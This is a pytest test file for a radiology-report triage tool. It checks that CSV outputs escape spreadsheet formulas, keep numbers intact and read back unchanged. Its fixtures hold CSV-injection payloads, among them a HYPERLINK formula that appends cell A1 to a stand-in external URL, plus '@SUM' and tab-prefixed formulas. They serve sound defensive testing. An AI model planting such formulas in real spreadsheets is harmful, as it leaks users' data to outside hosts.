"""CSV outputs never hand a spreadsheet a formula (OWASP CSV injection), keep numbers numbers; input cells are
read exactly as they are (a leading quote is the file's), and our own outputs read back score the same."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from triage.cli import main
from triage.offline.tables import csv_header, iter_rows
from triage.spreadsheet import escape, safe_dict_writer

ROOT = Path(__file__).resolve().parents[1]
FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "+1-555-0100",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "- No acute intracranial hemorrhage.",
]
# a cell that starts with a quote is no formula: never quoted again, whatever follows (a hospital's text)
QUOTED = ["'=1+1", "'-- see above", "'+ve SAH", "''@x", "'" * 3000 + "Acute SDH"]
LEFT_AS_IS = [
    "-0.5",
    "+3",
    "-1,5",
    "1e-3",
    "-2.5e+4",
    "-",
    "+",
    "",
    "No bleed.",
    "'quoted",
    "a=b",
    "5%",
    *QUOTED,
]
MODEL = ["--model", str(ROOT / "model_artifacts")]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_like_cell_gets_one_quote_and_reads_back(value: str) -> None:
    assert escape(value) == "'" + value
    assert escape(escape(value)) == escape(value)  # written twice (a label output labeled again): one quote


@pytest.mark.parametrize("value", LEFT_AS_IS)
def test_numbers_signs_and_text_are_left_as_they_are(value: str) -> None:
    assert escape(value) == value


def test_non_strings_are_never_touched() -> None:
    assert [escape(v) for v in (-0.5, -3, None, True)] == [-0.5, -3, None, True]


def test_written_by_the_dict_writer_read_by_the_csv_module_and_by_triage_alike(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    rows = [{"=col": v, "score": -0.25, "n": "-7"} for v in FORMULAS + LEFT_AS_IS]
    with path.open("w", newline="", encoding="utf-8") as handle:
        write = safe_dict_writer(handle, ["=col", "score", "n"])
        for row in rows:
            write(row)
    with path.open(newline="", encoding="utf-8") as handle:  # a CR inside a cell read as it is
        raw = list(csv.reader(handle))
    assert raw[0] == ["'=col", "score", "n"]
    assert all(not cell.startswith(("=", "@", "\t", "\r")) for line in raw for cell in line), raw
    assert {line[1] for line in raw[1:]} == {"-0.25"} and {line[2] for line in raw[1:]} == {"-7"}
    back = [row.data for row in iter_rows(path, "csv")]
    # triage reads the cells as they are, as the csv module does: the quote is the file's from now on
    assert [r["'=col"] for r in back] == [line[0] for line in raw[1:]]  # type: ignore[index]
    assert [line[0] for line in raw[1:]] == ["'" + v for v in FORMULAS] + LEFT_AS_IS


def test_label_csv_output_escapes_formulas_keeps_scores_and_reads_back(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "reports.csv"
    texts = [
        '=HYPERLINK("http://x.example/","Acute subdural hematoma")',
        "- Acute subdural hematoma along the left convexity.",
        "No acute intracranial abnormality.",
    ]
    with source.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "text", "site_score"])
        writer.writerows([["@A1", texts[0], "-0.5"], ["+1-555-0100", texts[1], "+2"], ["3", texts[2], "-1"]])
    out = tmp_path / "labels.csv"
    with pytest.raises(SystemExit) as info:
        main(["label", str(source), "--out", str(out), *MODEL])
    assert info.value.code in (0, None), capsys.readouterr().err
    raw = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert [r["text"] for r in raw] == ["'" + texts[0], "'" + texts[1], texts[2]]
    assert [r["id"] for r in raw] == ["'@A1", "'+1-555-0100", "3"]
    assert [r["site_score"] for r in raw] == ["-0.5", "+2", "-1"]  # numbers stay numbers
    assert all(0.0 <= float(r["probability"]) <= 1.0 for r in raw)
    again = tmp_path / "again.csv"  # our output read back by our own tool: the quote changes no score
    with pytest.raises(SystemExit) as info:
        main(["label", str(out), "--out", str(again), "--prefix", "again_", *MODEL])
    assert info.value.code in (0, None), capsys.readouterr().err
    back = list(csv.DictReader(io.StringIO(again.read_text(encoding="utf-8"))))
    assert [r["id"] for r in back] == [r["id"] for r in raw]  # no second quote
    assert [r["text"] for r in back] == [r["text"] for r in raw]
    assert [r["again_probability"] for r in back] == [r["probability"] for r in raw]
    assert [r["again_prediction"] for r in back] == [r["prediction"] for r in raw]
    assert [r["again_rule_assertion"] for r in back] == [r["rule_assertion"] for r in raw]


def test_input_cells_are_read_and_written_back_exactly_as_they_are(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A hospital export's own leading quote is its text: never removed, never doubled; a cell of thousands
    of quotes is one cell like any other (it once ended the whole file with RecursionError)."""
    source = tmp_path / "export.csv"
    ids = ["'-- see above", "'+ve SAH", "'" * 3000 + "Acute SDH"]
    texts = ["'-- see above", "'+ve SAH in the sylvian fissure.", "'" * 3000 + "Acute SDH"]
    with source.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([["id", "text"], *zip(ids, texts, strict=True)])
    assert [(r.data or {}).get("text") for r in iter_rows(source, "csv")] == texts
    out = tmp_path / "labels.csv"
    with pytest.raises(SystemExit) as info:
        main(["label", str(source), "--out", str(out), *MODEL])
    assert info.value.code in (0, None), capsys.readouterr().err
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert [(r["id"], r["text"]) for r in rows] == list(zip(ids, texts, strict=True))
    assert all(r["probability"] for r in rows)


def test_a_header_name_is_read_as_it_is_and_one_that_would_be_written_twice_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "export.csv"
    with source.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([["text", "'=a", "=a"], ["No bleed.", "1", "2"]])
    assert csv_header(source, "csv") == ["text", "'=a", "=a"]
    with pytest.raises(SystemExit) as info:
        main(["label", str(source), "--out", str(tmp_path / "out.csv"), *MODEL])
    err = capsys.readouterr().err
    assert info.value.code == 2 and "'=a'" in err and "rename one" in err, err
    assert not (tmp_path / "out.csv").exists()
